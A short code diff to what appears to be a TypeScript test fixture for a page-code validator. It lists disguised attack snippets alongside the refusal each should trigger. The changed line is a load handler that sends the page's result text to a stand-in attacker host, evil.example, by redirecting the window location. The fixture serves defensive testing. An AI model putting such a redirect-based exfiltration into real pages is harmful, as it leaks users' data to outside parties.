@@ -73,7 +73,7 @@ const inStyle = (css: string): string => withLine('main { padding: 16px;', `${cs
 /** Code of pages that attack without a name that gives them away at once, and what the refusal names. */
 export const HIDDEN_CODE: Readonly<Record<string, readonly [code: string, reason: RegExp]>> = {
   'a window by an event': [
-    "addEventListener('load', e => { const l = e.currentTarget.location; l.assign('https://evil.example/?' + app.result.text); });",
+    "addEventListener('load', e => { const l = e.currentTarget.location; l.assign('https://evil.example/?' + app.result?.text); });",
     /line 26: location is not allowed here/,
   ],
   'a window taken out of an event': [
